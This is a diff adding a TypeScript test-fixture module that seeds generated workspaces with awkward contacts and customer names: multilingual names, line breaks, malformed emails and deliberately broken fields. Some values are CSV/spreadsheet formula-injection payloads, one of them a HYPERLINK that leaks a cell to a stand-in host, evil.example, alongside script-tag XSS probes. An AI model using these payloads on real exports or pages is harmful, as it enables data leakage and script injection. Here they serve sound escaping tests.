@@ -1,0 +1,174 @@
+/**
+ * The hostile cases every generated workspace carries: contacts and customer names that naive exporters and
+ * pages get wrong, text sprinkled into names, and the ways `invalid` and `bent` break a record on purpose.
+ */
+import type { RawContact } from './raw-records.ts';
+import { asciiOf } from './vocabulary.ts';
+
+/** The ways `invalid` breaks a contact's identity, in the order they are used (then cycled). */
+export const INVALID_CONTACT_KINDS = [
+  'missing id',
+  'customer_id is not a UUID',
+  'id is not a UUID',
+  'missing customer_id',
+] as const;
+export type InvalidContactKind = (typeof INVALID_CONTACT_KINDS)[number];
+
+/** The ways `bent` spoils a peripheral field of a contact, in the order they are used (then cycled). */
+export const BENT_CONTACT_KINDS = [
+  'role is a string',
+  'email is a number',
+  'created_at is not a timestamp',
+  'no name and no email',
+  'address_ids holds a non-UUID',
+  'phone is an object',
+] as const;
+export type BentContactKind = (typeof BENT_CONTACT_KINDS)[number];
+
+/**
+ * Contacts that every workspace holds (as far as it has contacts), spread evenly through `contacts`.
+ * Each one carries a value a naive exporter or page gets wrong.
+ */
+export const HOSTILE_CONTACTS: readonly ((contact: RawContact) => void)[] = [
+  (c) => Object.assign(c, { first_name: 'Zoë', last_name: 'Ñúñez' }),
+  (c) => Object.assign(c, { first_name: 'Łukasz', last_name: 'Müller' }),
+  (c) => Object.assign(c, { first_name: '太郎', last_name: '山田', email: 'taro.yamada@example.jp' }),
+  (c) => Object.assign(c, { first_name: 'Γιώργος', last_name: 'Παπαδόπουλος' }),
+  (c) => Object.assign(c, { first_name: 'محمد', last_name: 'العلي' }),
+  (c) => Object.assign(c, { first_name: 'Дмитрий', last_name: 'Иванов' }),
+  (c) => Object.assign(c, { first_name: 'Seán', last_name: "O'Brien", email: "sean.o'brien@example.ie" }),
+  (c) => Object.assign(c, { first_name: 'Robert "Bob"', last_name: 'Smith' }),
+  (c) => Object.assign(c, { first_name: 'Jean', last_name: 'Dupont, Jr.', email: 'contact@acme.com' }),
+  (c) => Object.assign(c, { first_name: 'Marie', last_name: 'Curie', email: 'contact@acme.com' }),
+  (c) => Object.assign(c, { first_name: 'Anne\nMarie', last_name: 'Line\r\nBreak' }),
+  (c) => Object.assign(c, { first_name: '=HYPERLINK("https://evil.example/?x="&A1,"Click me")' }),
+  (c) => Object.assign(c, { first_name: '@SUM(A1)', last_name: '-5' }),
+  (c) => Object.assign(c, { first_name: '+33612345678', last_name: '=1+1' }),
+  (c) => Object.assign(c, { first_name: '<script>alert(1)</script>', last_name: '<b>bold</b>' }),
+  (c) => Object.assign(c, { email: null, phone: null }),
+  (c) => Object.assign(c, { first_name: null, last_name: null, email: 'only.email@example.com' }),
+  (c) => Object.assign(c, { first_name: '', email: 'jean.dupont@' }),
+  (c) => Object.assign(c, { email: 'not an email' }),
+  (c) => Object.assign(c, { email: '  Mixed.Case@Example.COM ' }),
+  (c) => Object.assign(c, { role: ['decision_maker'] }),
+  (c) => Object.assign(c, { role: [] }),
+  (c) => Object.assign(c, { role: ['buyer', 'signer', 'billing', 'shipping', 'legal', 'admin'] }),
+  (c) => Object.assign(c, { id_crm: '000123', id_erp: '0042', id_accounting: '00000000000000012345' }),
+  (c) => Object.assign(c, { phone: '(555) 010-0199' }),
+  (c) => Object.assign(c, { phone: '+49-30-1234567' }),
+  (c) => Object.assign(c, { phone: '+33 6 12 34 56 78' }),
+  (c) => Object.assign(c, { first_name: 'Zoe\u0308', last_name: 'Null' }),
+  (c) => Object.assign(c, { first_name: '  padded  ', last_name: 'Tab\tSeparated' }),
+  (c) => Object.assign(c, { first_name: '👩‍💻', last_name: 'Nguyễn' }),
+  (c) => {
+    delete c.workspace_id;
+    delete c.address_ids;
+  },
+  (c) => Object.assign(c, { locale: 'fr-FR' }),
+];
+
+export const HOSTILE_CUSTOMER_NAMES: readonly string[] = [
+  "Société Générale d'Équipement",
+  'Acme, Inc.',
+  'Müller & Söhne GmbH',
+  '"Le Petit Bistro" SARL',
+  '株式会社山田商事',
+  'Ελληνικά Τρόφιμα Α.Ε.',
+  'شركة الأمل للتجارة',
+  'ООО «Ромашка»',
+  '=HYPERLINK("https://evil.example","Acme")',
+  '<script>alert(1)</script> Corp',
+  'Line One\nLine Two SAS',
+  '@SUM(A1) Holdings',
+  '-5 Degrees Ltd',
+  '  Padded Name  ',
+];
+/** Values that break naive CSV, spreadsheet or HTML output; sprinkled into names at a low rate. */
+export const HOSTILE_TEXT: readonly string[] = [
+  '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
+  '+33 6 12 34 56 78',
+  '-5',
+  '@SUM(A1)',
+  '=1+1',
+  '<script>alert(1)</script>',
+  '<b>bold</b>',
+  'Robert "Bob"',
+  'Smith, John',
+  'Anne\nMarie',
+  'Line\r\nBreak',
+  '  padded  ',
+  'Tab\tSeparated',
+  'Zoe\u0308',
+  '👩‍💻 Dev',
+];
+/** After a specimen renamed a contact, its generated email follows the new name when that has an ASCII form. */
+export function matchEmailToName(contact: RawContact, before: RawContact): void {
+  const renamed = contact.first_name !== before.first_name || contact.last_name !== before.last_name;
+  if (!renamed || contact.email !== before.email || typeof contact.email !== 'string') return;
+  const first = typeof contact.first_name === 'string' ? asciiOf(contact.first_name) : '';
+  const last = typeof contact.last_name === 'string' ? asciiOf(contact.last_name) : '';
+  const at = contact.email.indexOf('@');
+  if (first && last && at > 0) contact.email = `${first}.${last}${contact.email.slice(at)}`;
+}
+
+/**
+ * Evenly spread positions for the broken or bent contacts (shifted by `offset` of a stride so that the two sets
+ * differ), avoiding the reserved ones while there is room, with their kinds cycled.
+ */
+export function placeSpecial<K extends string>(
+  count: number,
+  total: number,
+  reserved: readonly number[],
+  kinds: readonly K[],
+  offset = 0.5,
+): { index: number; kind: K }[] {
+  const taken = new Set(count <= total - reserved.length ? reserved : []);
+  const placed: { index: number; kind: K }[] = [];
+  for (let k = 0; k < count; k++) {
+    let index = Math.floor(((k + offset) * total) / count);
+    while (taken.has(index)) index = (index + 1) % total;
+    taken.add(index);
+    placed.push({ index, kind: kinds[k % kinds.length] as K });
+  }
+  return placed.sort((a, b) => a.index - b.index);
+}
+
+export function breakContact(contact: RawContact, kind: InvalidContactKind): void {
+  switch (kind) {
+    case 'missing id':
+      delete contact.id;
+      break;
+    case 'customer_id is not a UUID':
+      contact.customer_id = 'CUST-000123';
+      break;
+    case 'id is not a UUID':
+      contact.id = '12345';
+      break;
+    case 'missing customer_id':
+      delete contact.customer_id;
+      break;
+  }
+}
+
+export function bendContact(contact: RawContact, kind: BentContactKind): void {
+  switch (kind) {
+    case 'role is a string':
+      contact.role = 'decision_maker';
+      break;
+    case 'email is a number':
+      contact.email = 33612345678;
+      break;
+    case 'created_at is not a timestamp':
+      contact.created_at = '31/12/2023 14:00';
+      break;
+    case 'no name and no email':
+      Object.assign(contact, { first_name: null, last_name: '  ', email: null });
+      break;
+    case 'address_ids holds a non-UUID':
+      contact.address_ids = ['addr-1'];
+      break;
+    case 'phone is an object':
+      contact.phone = { number: '+33 6 12 34 56 78', type: 'mobile' };
+      break;
+  }
+}
